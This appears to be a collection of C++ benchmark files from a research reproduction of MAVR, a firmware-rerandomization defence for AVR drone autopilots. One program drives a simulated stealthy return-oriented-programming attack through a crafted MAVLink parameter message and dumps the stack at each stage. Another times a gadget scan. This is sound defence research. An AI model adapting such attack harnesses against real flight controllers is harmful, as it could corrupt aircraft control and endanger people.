        std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
            .count();
    best = std::max(best, images / secs);
  }
  return best;
}

void bench_profile(const char* tag, const firmware::AppProfile& profile) {
  const firmware::Firmware& fw = bench::built(profile);
  const toolchain::SymbolBlob blob =
      toolchain::SymbolBlob::from_image(fw.image);
  const std::vector<Variant> variants = make_variants(fw, blob);

  // Cold: every image analyzed against a fresh, empty cache.
  const double cold = best_images_per_sec(kReps, kVariants, [&] {
    for (const Variant& v : variants) {
      analysis::AnalysisCache cache;
      analysis::Analyzer(&cache).analyze(v.image, v.blob);
    }
  });

  // Cached: one warm-up analysis of the base image fills the shared cache;
  // every rerandomized layout should then hit it function-by-function.
  analysis::AnalysisCache shared;
  analysis::Analyzer warm(&shared);
  warm.analyze(fw.image.bytes, blob);
  std::uint64_t hits = 0;
  std::uint64_t misses = 0;
  const double cached = best_images_per_sec(kReps, kVariants, [&] {
    hits = misses = 0;
    for (const Variant& v : variants) {
      const analysis::AnalysisReport r = warm.analyze(v.image, v.blob);
      hits += r.cache_hits;
      misses += r.cache_misses;
    }
  });

  // Bit-identity: cold and cached analyses of the same permuted image must
  // render identically (cache counters are excluded from report_text).
  analysis::AnalysisCache fresh;
  const std::string cold_text = analysis::report_text(
      analysis::Analyzer(&fresh).analyze(variants[0].image, variants[0].blob));
  const std::string cached_text = analysis::report_text(
      warm.analyze(variants[0].image, variants[0].blob));
  const bool identical = cold_text == cached_text;

  const double total = static_cast<double>(hits + misses);
  std::printf(
      "{\"bench\":\"analysis_throughput\",\"profile\":\"%s\","
      "\"images\":%d,\"functions\":%zu,"
      "\"cold_images_per_sec\":%.2f,\"cached_images_per_sec\":%.2f,"
      "\"speedup\":%.2f,\"cache_hit_rate\":%.4f,\"bit_identical\":%s}\n",
      tag, kVariants, blob.function_addrs.size(), cold, cached, cached / cold,
      total > 0 ? static_cast<double>(hits) / total : 0.0,
      identical ? "true" : "false");
}

}  // namespace

int main() {
  bench_profile("testapp", firmware::testapp(true));
  bench_profile("arduplane", firmware::arduplane(true));
  return 0;
}
