// campaignd service scaling: trials/sec by worker count when the same
// campaign runs through the coordinator/worker service instead of the
// in-process thread pool, plus the cross-process determinism check — the
// service aggregate must be bit-identical to the in-process one at every
// worker count (DESIGN.md §12–§13).
//
// The sweep runs on both transports: AF_UNIX (the single-machine
// default) and TCP loopback (the multi-machine path — loopback puts a
// floor under its protocol cost; real networks only add latency, which
// cannot affect the bits). The bit-exactness gate applies to every cell:
// any mismatch exits nonzero.
//
// Workload matches bench/campaign_scaling.cpp (re-randomized brute-force
// model, n=6), so the tables are directly comparable: the delta is the
// protocol + scheduling overhead of sharding 64-trial chunks over a
// stream socket.
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

#include "bench_util.hpp"
#include "campaign/scenarios.hpp"
#include "campaignd/client.hpp"
#include "campaignd/coordinator.hpp"
#include "campaignd/worker.hpp"

namespace {

/// One worker-count sweep over `listen_endpoint`. Returns false on any
/// service failure or bit-exactness violation.
bool sweep(const char* label, const std::string& listen_endpoint,
           const mavr::campaign::CampaignConfig& config,
           const mavr::campaign::CampaignStats& reference) {
  using namespace mavr;
  std::printf("-- %s --\n", label);
  std::printf("%-8s %-12s %-14s %-10s %-12s\n", "workers", "wall (s)",
              "trials/sec", "speedup", "stats match");

  double base_s = 0;
  for (int workers : {1, 2, 4, 8}) {
    campaignd::CoordinatorConfig cc;
    cc.listen_endpoint = listen_endpoint;
    cc.wait_hint_ms = 2;
    campaignd::Coordinator coordinator(cc);
    coordinator.start();
    // The *bound* endpoint: with tcp:...:0 this carries the real port.
    const std::string endpoint = coordinator.endpoint();

    std::atomic<bool> stop{false};
    std::vector<std::thread> pool;
    for (int i = 0; i < workers; ++i) {
      pool.emplace_back([&endpoint, &stop] {
        campaignd::WorkerOptions options;
        options.connect_attempts = 20;
        options.backoff_ms = 5;
        options.stop = &stop;
        campaignd::run_worker(endpoint, options);
      });
    }

    const auto t0 = std::chrono::steady_clock::now();
    const campaignd::SubmitOutcome submit =
        campaignd::submit_campaign(endpoint, config);
    if (!submit.ok) {
      std::printf("submit failed: %s\n", submit.error.c_str());
      return false;
    }
    const campaignd::PollOutcome done = campaignd::wait_campaign(
        endpoint, submit.campaign_id, /*interval_ms=*/5);
    const double wall_s =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
            .count();
    stop.store(true);
    for (std::thread& t : pool) t.join();
    coordinator.stop();
    if (!done.ok) {
      std::printf("wait failed: %s\n", done.error.c_str());
      return false;
    }
    if (workers == 1) base_s = wall_s;

    // Bitwise comparison against the in-process run: determinism across
    // the process boundary means *equality*, not closeness.
    const bool identical =
        std::memcmp(&done.status.stats, &reference, sizeof reference) == 0;
    std::printf("%-8d %-12.3f %-14.0f %-10.2f %-12s\n", workers, wall_s,
                static_cast<double>(config.trials) / wall_s,
                base_s / wall_s, identical ? "bit-exact" : "MISMATCH (!)");
    if (!identical) return false;
  }
  std::printf("\n");
  return true;
}

}  // namespace

int main() {
  using namespace mavr;
  bench::heading("campaignd service scaling (trials/sec by worker count)");

  campaign::CampaignConfig config;
  config.scenario = campaign::Scenario::kBruteForceRerand;
  config.n_functions = 6;
  config.trials = 20'000;
  config.seed = 0xCA4;
  config.jobs = 1;

  const auto r0 = std::chrono::steady_clock::now();
  const campaign::CampaignStats reference = campaign::run_campaign(config);
  const double ref_s =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - r0)
          .count();

  const unsigned hw = std::thread::hardware_concurrency();
  std::printf("workload: %llu trials of %s (n=%u), hardware threads: %u\n",
              static_cast<unsigned long long>(config.trials),
              campaign::scenario_name(config.scenario), config.n_functions,
              hw);
  std::printf("in-process baseline (jobs=1): %.3f s\n\n", ref_s);

  if (!sweep("AF_UNIX", "unix:/tmp/mavr_campaignd_bench.sock", config,
             reference)) {
    return 1;
  }
  if (!sweep("TCP loopback", "tcp:127.0.0.1:0", config, reference)) {
    return 1;
  }

  std::printf("every transport and worker count reproduces the in-process "
              "aggregate\nbit-for-bit: chunks are deterministic functions of "
              "(config, index), merged in\nindex order wherever they were "
              "computed.\n");
  return 0;
}
