// Reflash-invalidation microbenchmark: the superblock tier's worst case.
//
// The MAVR defense reprograms flash constantly — every rerandomization
// epoch erases and rewrites the whole application — so translations are
// invalidated at a rate no conventional JIT faces. This bench measures
// the steady-state translate → run → reflash → retranslate loop over
// 1000 rerandomized images of the test application: per-epoch wall time,
// retranslation volume, and the retired throughput sustained while every
// epoch starts from a cold translation cache.
//
// The tier invalidates by bumping an epoch tag (O(1) per reflash, the
// per-word map is never walked), so the cost that remains is pure
// retranslation demand; the bench reports it both ways (epochs/s and
// MIPS) to make a regression in either visible.
#include <chrono>
#include <cstdint>
#include <cstdio>

#include "bench_util.hpp"
#include "defense/patcher.hpp"
#include "sim/board.hpp"
#include "support/rng.hpp"
#include "toolchain/image.hpp"

namespace {

using namespace mavr;

constexpr int kEpochs = 1000;
constexpr std::uint64_t kCyclesPerEpoch = 400'000;  // boot + a few frames

}  // namespace

int main() {
  bench::heading("Reflash invalidation (1000 rerandomized images)");

  const firmware::Firmware& fw = bench::built(firmware::testapp(true));
  const toolchain::SymbolBlob blob =
      toolchain::SymbolBlob::from_image(fw.image);
  support::Rng rng(2026);

  // Pre-draw the images so the timed loop measures the simulator, not the
  // patcher.
  std::vector<support::Bytes> images;
  images.reserve(kEpochs);
  for (int i = 0; i < kEpochs; ++i) {
    images.push_back(defense::randomize_image(fw.image.bytes, blob, rng).image);
  }

  sim::Board board;
  board.cpu().set_exec_tier(true);

  // Warmup epoch: first flash sizes the translation map.
  board.flash_image(images[0]);
  board.run_cycles(kCyclesPerEpoch);

  const avr::TierStats& stats = board.cpu().tier_stats();
  const std::uint64_t translated0 = stats.blocks_translated;
  const std::uint64_t invalidations0 = stats.invalidations;
  const std::uint64_t retired0 = board.cpu().instructions_retired();

  const auto t0 = std::chrono::steady_clock::now();
  for (int i = 1; i < kEpochs; ++i) {
    board.flash_image(images[i]);  // bumps the flash generation
    board.run_cycles(kCyclesPerEpoch);
  }
  const double secs =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
          .count();

  const std::uint64_t epochs = kEpochs - 1;
  const std::uint64_t retranslations = stats.blocks_translated - translated0;
  const std::uint64_t invalidations = stats.invalidations - invalidations0;
  const std::uint64_t retired = board.cpu().instructions_retired() - retired0;

  std::printf(
      "  epochs %llu   invalidations %llu   retranslations %llu "
      "(%.1f blocks/epoch)\n"
      "  wall %.2fs   %.1f epochs/s   steady-state %.1f MIPS under "
      "per-epoch reflash\n",
      static_cast<unsigned long long>(epochs),
      static_cast<unsigned long long>(invalidations),
      static_cast<unsigned long long>(retranslations),
      static_cast<double>(retranslations) / epochs, secs, epochs / secs,
      static_cast<double>(retired) / secs / 1e6);

  // Every reflash must have invalidated: a cache that survives a
  // generation bump would be serving stale code.
  if (invalidations != epochs) {
    std::fprintf(stderr,
                 "FAIL: expected one invalidation per reflash epoch\n");
    return 1;
  }
  return 0;
}
