// Reflash pipeline under fault pressure: recovery probability and startup
// overhead as a function of the injection rate.
//
// Sweeps the fault-sweep campaign scenario over a rate ladder. Each rate
// runs N independent trials of "clean boot, arm the fault plane on every
// hardware boundary, re-randomize under faults"; the pipeline must end in
// a verified state every time, so the interesting numbers are how often it
// recovers the *fresh* image (vs. degrading to last-known-good or a held
// bootloader) and what the retries cost in startup time.
//
// Emits the same header + row CSV shape as mavr-campaign --out, one row
// per rate, so the sweep diffs cleanly against single-run exports:
//
//   reflash_faults [--trials N] [--jobs N] [--out FILE.{csv,json}]
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <string>
#include <vector>

#include "bench_util.hpp"
#include "campaign/export.hpp"
#include "campaign/scenarios.hpp"
#include "support/error.hpp"

namespace {

bool ends_with(const std::string& s, const char* suffix) {
  const std::size_t n = std::strlen(suffix);
  return s.size() >= n && s.compare(s.size() - n, n, suffix) == 0;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mavr;
  std::uint64_t trials = 32;
  unsigned jobs = 4;
  std::string out_path;
  for (int i = 1; i < argc; ++i) {
    const auto arg_value = [&](const char* name) -> const char* {
      if (std::strcmp(argv[i], name) != 0) return nullptr;
      if (i + 1 >= argc) return nullptr;
      return argv[++i];
    };
    if (const char* v = arg_value("--trials")) {
      trials = std::strtoull(v, nullptr, 0);
    } else if (const char* v = arg_value("--jobs")) {
      jobs = static_cast<unsigned>(std::strtoul(v, nullptr, 0));
    } else if (const char* v = arg_value("--out")) {
      out_path = v;
    } else {
      std::fprintf(stderr,
                   "usage: reflash_faults [--trials N] [--jobs N] "
                   "[--out FILE.{csv,json}]\n");
      return 2;
    }
  }

  bench::heading("Reflash pipeline: recovery vs. fault injection rate");

  // One fixture for the whole sweep: the firmware build is the slow part
  // and the fault schedule only depends on the trial Rng, not the image.
  const campaign::SimFixture fixture =
      campaign::make_sim_fixture(firmware::testapp(/*vulnerable=*/true));

  const std::vector<double> rates = {0.0,  0.002, 0.005, 0.01,
                                     0.02, 0.05,  0.1};
  std::printf("%llu trials per rate, %u jobs, seed fixed per rate\n\n",
              static_cast<unsigned long long>(trials), jobs);
  std::printf("%-12s %-10s %-12s %-14s %-12s\n", "fault rate", "fresh %",
              "degraded %", "startup (ms)", "wall (s)");

  std::string csv = std::string(campaign::csv_header()) + "\n";
  std::string json;
  double baseline_ms = 0;
  try {
    for (double rate : rates) {
      campaign::CampaignConfig config;
      config.scenario = campaign::Scenario::kFaultSweep;
      config.trials = trials;
      config.jobs = jobs;
      config.seed = 0xFA0175;
      config.fault_rate = rate;

      const auto t0 = std::chrono::steady_clock::now();
      const campaign::CampaignStats stats =
          campaign::run_campaign(config, fixture);
      const double wall_s =
          std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
              .count();
      if (rate == 0.0) baseline_ms = stats.mean_startup_ms;

      const auto pct = [&](std::uint64_t n) {
        return 100.0 * static_cast<double>(n) /
               static_cast<double>(stats.trials);
      };
      std::printf("%-12g %-10.1f %-12.1f %-14.2f %-12.2f\n", rate,
                  pct(stats.successes), pct(stats.degradations),
                  stats.mean_startup_ms, wall_s);
      csv += campaign::csv_row(config, stats);
      json += campaign::to_json(config, stats);
    }
  } catch (const support::Error& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    return 2;
  }

  if (baseline_ms > 0) {
    std::printf("\nfault-free startup is the baseline (%.2f ms); overhead at "
                "higher rates is\nretry + backoff time only — verification "
                "is pipelined with the page stream.\n",
                baseline_ms);
  }

  if (!out_path.empty()) {
    const bool is_csv = ends_with(out_path, ".csv");
    if (!is_csv && !ends_with(out_path, ".json")) {
      std::fprintf(stderr, "--out must end in .csv or .json\n");
      return 2;
    }
    std::ofstream out(out_path, std::ios::binary);
    if (!out) {
      std::fprintf(stderr, "cannot open %s\n", out_path.c_str());
      return 1;
    }
    out << (is_csv ? csv : json);
    std::printf("wrote %s\n", out_path.c_str());
  }
  return 0;
}
