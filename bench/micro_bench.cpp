// google-benchmark microbenchmarks for the hot paths of the reproduction:
// the master's randomize+patch pass (determines how much CPU headroom the
// ATmega1284P model needs), the attacker's gadget scan, the MAVLink codec,
// the CRC and the raw simulator speed.
#include <benchmark/benchmark.h>

#include "attack/gadgets.hpp"
#include "defense/patcher.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "mavlink/mavlink.hpp"
#include "sim/board.hpp"
#include "support/crc.hpp"
#include "support/rng.hpp"
#include "toolchain/image.hpp"

namespace {

using namespace mavr;

const firmware::Firmware& arduplane_fw() {
  static firmware::Firmware fw = firmware::generate(
      firmware::arduplane(true), toolchain::ToolchainOptions::mavr());
  return fw;
}

const firmware::Firmware& test_fw() {
  static firmware::Firmware fw = firmware::generate(
      firmware::testapp(true), toolchain::ToolchainOptions::mavr());
  return fw;
}

void BM_RandomizeAndPatch(benchmark::State& state) {
  const toolchain::Image& image = arduplane_fw().image;
  const toolchain::SymbolBlob blob = toolchain::SymbolBlob::from_image(image);
  support::Rng rng(1);
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        defense::randomize_image(image.bytes, blob, rng));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          image.size_bytes());
}
BENCHMARK(BM_RandomizeAndPatch)->Unit(benchmark::kMillisecond);

void BM_GadgetScan(benchmark::State& state) {
  const toolchain::Image& image = arduplane_fw().image;
  for (auto _ : state) {
    attack::GadgetFinder finder(image);
    benchmark::DoNotOptimize(finder.census());
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          image.text_end);
}
BENCHMARK(BM_GadgetScan)->Unit(benchmark::kMillisecond);

void BM_FirmwareGeneration(benchmark::State& state) {
  const firmware::AppProfile profile = firmware::arduplane(true);
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        firmware::generate(profile, toolchain::ToolchainOptions::mavr()));
  }
}
BENCHMARK(BM_FirmwareGeneration)->Unit(benchmark::kMillisecond);

void BM_MavlinkEncode(benchmark::State& state) {
  mavlink::Attitude att;
  att.roll = 0.12f;
  std::uint8_t seq = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(mavlink::encode(att.to_packet(1, seq++)));
  }
}
BENCHMARK(BM_MavlinkEncode);

void BM_MavlinkParse(benchmark::State& state) {
  mavlink::Attitude att;
  const support::Bytes bytes = mavlink::encode(att.to_packet(1, 9));
  mavlink::Parser parser;
  for (auto _ : state) {
    for (std::uint8_t b : bytes) benchmark::DoNotOptimize(parser.push(b));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(bytes.size()));
}
BENCHMARK(BM_MavlinkParse);

void BM_Crc16(benchmark::State& state) {
  support::Bytes data(256);
  for (std::size_t i = 0; i < data.size(); ++i) {
    data[i] = static_cast<std::uint8_t>(i * 31);
  }
  for (auto _ : state) {
    benchmark::DoNotOptimize(support::crc16_x25(data));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(data.size()));
}
BENCHMARK(BM_Crc16);

void BM_CpuSimulation(benchmark::State& state) {
  sim::Board board;
  board.flash_image(test_fw().image.bytes);
  board.run_cycles(200'000);  // boot
  for (auto _ : state) {
    board.run_cycles(100'000);
    if (board.cpu().state() != avr::CpuState::Running) state.SkipWithError("board died");
  }
  state.counters["sim_MHz"] = benchmark::Counter(
      static_cast<double>(state.iterations()) * 100'000,
      benchmark::Counter::kIsRate, benchmark::Counter::OneK::kIs1000);
}
BENCHMARK(BM_CpuSimulation)->Unit(benchmark::kMicrosecond);

}  // namespace

BENCHMARK_MAIN();
