// Regenerates Fig. 6 (paper §IV-D): the stack's progression through the
// stealthy attack, captured live from the simulator at the same seven
// stages the paper shows.
#include <cstdio>

#include "attack/attacks.hpp"
#include "bench_util.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"
#include "support/hexdump.hpp"

int main() {
  using namespace mavr;
  const firmware::Firmware fw = firmware::generate(
      firmware::testapp(true), toolchain::ToolchainOptions::mavr());
  const attack::AttackPlan plan = attack::analyze(fw.image);
  const attack::VictimFrame& frame = plan.frame;

  bench::heading("Fig. 6 — Stack progression during the stealthy attack");
  std::printf("victim frame: buffer at 0x%04X, frame %u bytes, saved Y at "
              "0x%04X/0x%04X, return address at 0x%04X..0x%04X\n",
              frame.buffer_addr, frame.frame_bytes, frame.p - 1, frame.p,
              frame.p + 1, frame.p + 3);

  sim::Board board;
  board.flash_image(fw.image.bytes);
  board.run_cycles(300'000);
  sim::GroundStation gcs(board);

  const auto dump = [&](const char* stage, std::uint32_t addr,
                        std::uint32_t len) {
    std::printf("\n%s\n", stage);
    std::printf("%s",
                support::hexdump(board.cpu().data().snapshot(addr, len),
                                 addr)
                    .c_str());
  };

  const std::uint32_t handler_word = fw.image.find("h_param_set")->addr / 2;
  const std::uint32_t stk_word = plan.stk.entry_byte_addr / 2;
  const std::uint32_t store_word = plan.wm.store_entry_byte_addr / 2;
  const std::uint32_t tail = frame.p - 18;  // window around the frame top

  int stage = 0;
  int store_hits = 0;
  board.set_trace_hook([&](const avr::Cpu& cpu) {
    if (stage == 0 && cpu.pc() == handler_word) {
      dump("(i) clean stack before payload execution", tail, 24);
      stage = 1;
    } else if (stage == 1 && cpu.pc() == stk_word) {
      dump("(ii) dirty stack after payload injection (saved Y and return "
           "address overwritten)",
           tail, 24);
      stage = 2;
    } else if (stage == 2 && cpu.pc() == store_word) {
      dump("(iii) stack after execution of Gadget1 (SP pivoted into the "
           "buffer; chain consumed up to the first write round)",
           frame.buffer_addr, 24);
      ++store_hits;
      stage = 3;
    } else if (stage == 3 && cpu.pc() == store_word) {
      dump("(iv) stack after execution of the payload (attacker bytes "
           "written; repair rounds queued)",
           frame.buffer_addr + 24, 24);
      ++store_hits;
      stage = 4;
    } else if (stage == 4 && cpu.pc() == store_word) {
      dump("(v) stack before execution of Gadget2 for SP address repair",
           frame.p - 8, 16);
      ++store_hits;
      stage = 5;
    } else if (stage == 5 && cpu.pc() == stk_word) {
      dump("(vi) stack after execution of Gadget1 again to move to the "
           "original location",
           frame.p - 8, 12);
      stage = 6;
    }
  });

  const attack::Write3 write{plan.gyro_cal_addr, {0x11, 0x22, 0x33}};
  gcs.send_raw_param_set(plan.builder().v2_payload({write}));
  board.run_cycles(5'000'000);
  board.set_trace_hook(nullptr);

  dump("(vii) repaired stack for continued execution", tail, 24);
  std::printf("\nvictim state: %s; gyro calibration now %02X %02X %02X "
              "(attacker values)\n",
              board.cpu().state() == avr::CpuState::Running
                  ? "running (attack was stealthy)"
                  : "crashed",
              board.cpu().data().raw(plan.gyro_cal_addr),
              board.cpu().data().raw(plan.gyro_cal_addr + 1),
              board.cpu().data().raw(plan.gyro_cal_addr + 2));

  std::printf("\nlegend (cf. paper colours): saved r28/r29 slots at "
              "0x%04X/0x%04X, gadget addresses as 3-byte big-endian words, "
              "repaired return address at 0x%04X.\n",
              frame.p - 1, frame.p, frame.p + 1);
  return 0;
}
