// campaignd chaos bench (DESIGN.md §14): completion time of one campaign
// swept over network fault rate × worker count, with the pool run by the
// real Supervisor over crash-prone workers — so the table reports what
// supervision and speculation actually cost, not a clean-room estimate.
//
// Every cell ends at the bit-exactness gate: the service aggregate under
// that cell's chaos must equal the in-process aggregate byte for byte, or
// the bench exits nonzero. Fault injection may move the wall-clock
// column; it must never move the bits.
//
// Columns beyond wall-clock are the robustness counters: worker respawns
// (supervisor restarts of crashed workers), speculative duplicate
// assignments, chunks reclaimed from dead/hung connections, duplicate
// results deduplicated at merge, and total injected transport faults
// (coordinator side).
#include <atomic>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <memory>
#include <string>
#include <thread>

#include "bench_util.hpp"
#include "campaign/scenarios.hpp"
#include "campaignd/client.hpp"
#include "campaignd/coordinator.hpp"
#include "campaignd/supervisor.hpp"
#include "campaignd/worker.hpp"
#include "support/netfault.hpp"
#include "support/rng.hpp"

namespace {

using namespace mavr;

/// Thread-backed supervised worker running the real protocol loop. It
/// "crashes" (exits, connection drops) every `crash_after_chunks` chunks,
/// so the supervisor's restart path carries real load during the sweep.
class BenchWorker : public campaignd::WorkerHandle {
 public:
  BenchWorker(std::string endpoint, support::NetFaultPlane* plane,
              std::uint64_t crash_after_chunks, std::uint64_t seq) {
    thread_ = std::thread([this, endpoint = std::move(endpoint), plane,
                           crash_after_chunks, seq] {
      campaignd::WorkerOptions options;
      options.connect_attempts = 100;
      options.backoff_ms = 5;
      options.reconnect_backoff_ms = 5;
      options.reconnect_backoff_max_ms = 100;
      options.reply_timeout_ms = 400;
      options.max_chunks = crash_after_chunks;
      options.backoff_seed = seq + 1;
      options.fault_plane = plane;
      options.stop = &stop_;
      campaignd::run_worker(endpoint, options);
      done_.store(true);
    });
  }
  ~BenchWorker() override {
    stop_.store(true);
    if (thread_.joinable()) thread_.join();
  }
  bool alive() override { return !done_.load(); }
  void terminate() override { stop_.store(true); }
  void kill_now() override { stop_.store(true); }
  support::Socket* control() override { return nullptr; }

 private:
  std::atomic<bool> stop_{false};
  std::atomic<bool> done_{false};
  std::thread thread_;
};

struct Cell {
  bool ok = false;
  double wall_s = 0;
  std::uint64_t respawns = 0;
  campaignd::CoordinatorCounters counters;
  std::uint64_t injected = 0;
};

Cell run_cell(double rate, int workers,
              const campaign::CampaignConfig& config,
              const campaign::CampaignStats& reference) {
  Cell cell;
  campaignd::CoordinatorConfig cc;
  cc.listen_endpoint = "unix:/tmp/mavr_chaos_bench.sock";
  cc.wait_hint_ms = 2;
  cc.worker_timeout_ms = 2'000;
  cc.speculation_min_ms = 500;
  cc.net_faults = support::NetFaultConfig::uniform(rate);
  cc.net_fault_seed = 0xFA010 + static_cast<std::uint64_t>(workers);
  campaignd::Coordinator coordinator(cc);
  coordinator.start();
  const std::string endpoint = coordinator.endpoint();

  support::NetFaultPlane worker_plane(support::NetFaultConfig::uniform(rate),
                                      support::Rng(0xBEEF));
  support::NetFaultPlane* plane = rate > 0 ? &worker_plane : nullptr;

  campaignd::SupervisorConfig sc;
  sc.min_workers = static_cast<std::size_t>(workers);
  sc.max_workers = static_cast<std::size_t>(workers);
  sc.tick_ms = 10;
  sc.restart_backoff_ms = 5;
  sc.restart_backoff_max_ms = 100;
  sc.heartbeat_timeout_ms = 0;      // thread workers have no control pipe
  sc.crash_loop_failures = 1'000'000;  // crashing is this bench's *job*
  campaignd::Supervisor supervisor(
      sc,
      [&endpoint, plane](std::uint64_t seq) {
        // Every worker walks away after 8 chunks; the supervisor must
        // keep respawning replacements for the campaign to finish.
        return std::make_unique<BenchWorker>(endpoint, plane,
                                             /*crash_after_chunks=*/8, seq);
      },
      nullptr);
  supervisor.start();

  campaignd::ClientOptions client;
  client.max_retries = 40;
  client.retry_backoff_ms = 5;
  client.retry_backoff_max_ms = 200;
  client.reply_timeout_ms = 400;

  const auto t0 = std::chrono::steady_clock::now();
  const auto submit = campaignd::submit_campaign(endpoint, config, client);
  if (!submit.ok) {
    std::printf("submit failed: %s\n", submit.error.c_str());
    return cell;
  }
  const auto done = campaignd::wait_campaign(endpoint, submit.campaign_id,
                                             client, /*interval_ms=*/5,
                                             /*timeout_ms=*/600'000);
  cell.wall_s =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
          .count();
  cell.respawns = supervisor.stats().restarts;
  supervisor.stop();
  cell.counters = coordinator.counters();
  cell.injected = coordinator.net_fault_stats().total();
  coordinator.stop();

  if (!done.ok) {
    std::printf("wait failed: %s\n", done.error.c_str());
    return cell;
  }
  cell.ok = std::memcmp(&done.status.stats, &reference,
                        sizeof reference) == 0;
  if (!cell.ok) {
    std::printf("BIT-EXACTNESS VIOLATION at rate %.2f, %d workers\n", rate,
                workers);
  }
  return cell;
}

}  // namespace

int main() {
  using namespace mavr;
  campaign::CampaignConfig config;
  config.scenario = campaign::Scenario::kBruteForceRerand;
  config.trials = 1'280;  // 20 chunks: several crash/respawn generations
  config.jobs = 4;
  config.seed = 0xC0FFEE;
  config.n_functions = 6;

  std::printf("== campaignd chaos: fault rate x supervised workers ==\n");
  std::printf("campaign: %llu trials, brute-force re-rand n=%u\n\n",
              static_cast<unsigned long long>(config.trials),
              config.n_functions);
  const campaign::CampaignStats reference = campaign::run_campaign(config);

  std::printf("%-7s %-8s %-9s %-9s %-7s %-9s %-7s %-8s %-6s\n", "rate",
              "workers", "wall (s)", "respawns", "specul", "reclaimed",
              "dupes", "injected", "bits");
  bool all_ok = true;
  for (const double rate : {0.0, 0.01, 0.05}) {
    for (const int workers : {1, 2, 4}) {
      const Cell cell = run_cell(rate, workers, config, reference);
      all_ok = all_ok && cell.ok;
      std::printf("%-7.2f %-8d %-9.2f %-9llu %-7llu %-9llu %-7llu %-8llu %s\n",
                  rate, workers, cell.wall_s,
                  static_cast<unsigned long long>(cell.respawns),
                  static_cast<unsigned long long>(
                      cell.counters.speculative_assigns),
                  static_cast<unsigned long long>(
                      cell.counters.chunks_reclaimed),
                  static_cast<unsigned long long>(
                      cell.counters.duplicate_results),
                  static_cast<unsigned long long>(cell.injected),
                  cell.ok ? "OK" : "DIVERGED");
    }
  }
  if (!all_ok) {
    std::printf("\nFAIL: at least one cell diverged from in-process\n");
    return 1;
  }
  std::printf("\nall cells bit-identical to in-process\n");
  return 0;
}
