// Regenerates Fig. 1 (paper §II-B): the ATmega2560 memory organization as
// modelled by the simulator — Harvard-separated program flash, the single
// linear data space (registers + I/O + SRAM) and the EEPROM.
#include <cstdio>

#include "avr/cpu.hpp"
#include "bench_util.hpp"

int main() {
  using namespace mavr;
  const avr::McuSpec& spec = avr::atmega2560();
  avr::Cpu cpu(spec);

  bench::heading("Fig. 1 — Memory for the ATmega2560 microcontroller");
  std::printf("program flash (Harvard, execute-only):\n");
  std::printf("  0x00000 - 0x%05X   %u KiB as %u Kwords of instructions\n",
              spec.flash_bytes - 1, spec.flash_bytes / 1024,
              spec.flash_words() / 1024);
  std::printf("  page size %u bytes, endurance %u program/erase cycles\n\n",
              spec.flash_page_bytes, spec.flash_endurance);

  std::printf("data space (single linear address space, not executable):\n");
  std::printf("  0x%04X - 0x%04X   32 general registers (memory mapped)\n",
              avr::kRegFileBase, avr::kRegFileBase + avr::kRegFileSize - 1);
  std::printf("  0x%04X - 0x%04X   64 I/O registers (IN/OUT)\n",
              avr::kIoBase, avr::kIoBase + avr::kIoSize - 1);
  std::printf("    0x%04X SPL  0x%04X SPH  0x%04X SREG  0x%04X EIND  "
              "0x%04X RAMPZ\n",
              avr::kAddrSpl, avr::kAddrSph, avr::kAddrSreg, avr::kAddrEind,
              avr::kAddrRampz);
  std::printf("  0x%04X - 0x%04X   extended I/O (LDS/STS only)\n",
              avr::kExtIoBase, avr::kExtIoEnd - 1);
  std::printf("  0x%04X - 0x%04X   %u KiB internal SRAM "
              "(stack, globals, heap)\n\n",
              spec.sram_base, spec.ramend(), spec.sram_bytes / 1024);

  std::printf("EEPROM (separate address space): %u KiB\n",
              spec.eeprom_bytes / 1024);
  std::printf("\nreset state: PC = 0x0, SP = RAMEND = 0x%04X\n",
              cpu.sp());
  std::printf("CALL/RET push/pop %u-byte return addresses (17-bit word "
              "PC), big-endian in ascending memory.\n",
              spec.pc_push_bytes);
  return 0;
}
