// Ablation for the paper's §VIII-B padding discussion: the authors
// considered random padding between functions and judged it unnecessary —
// 800 symbols already give 6567 bits. This bench quantifies what padding
// *would* add (we implement it as an option) and confirms the paper's
// call: the permutation entropy dwarfs the gap entropy at autopilot scale.
#include <cstdio>

#include "bench_util.hpp"
#include "defense/bruteforce.hpp"
#include "defense/patcher.hpp"
#include "sim/board.hpp"

int main() {
  using namespace mavr;
  using namespace mavr::defense;

  bench::heading("Ablation — random inter-function padding (paper §VIII-B)");

  // Free flash on the evaluation targets (256 KiB part, Table III images).
  std::printf("%-14s %-12s %-18s %-22s %-22s\n", "Application",
              "free flash", "permutation bits", "padding bits (16 KiB)",
              "padding bits (all free)");
  struct Row {
    const char* name;
    std::uint32_t n;
    std::uint32_t image;
  };
  const Row rows[] = {{"Arduplane", 917, 221294},
                      {"Arducopter", 1030, 244292},
                      {"Ardurover", 800, 177556}};
  for (const Row& row : rows) {
    const std::uint32_t free_flash = 256 * 1024 - row.image;
    std::printf("%-14s %-12u %-18.0f %-22.0f %-22.0f\n", row.name,
                free_flash, entropy_bits(row.n),
                padding_entropy_bits(row.n, 16 * 1024),
                padding_entropy_bits(row.n, free_flash));
  }
  std::printf("\npadding would add a few thousand bits, but the "
              "permutation alone is already far\nbeyond any brute-force "
              "budget (2^6567+) — the paper's call to skip padding costs\n"
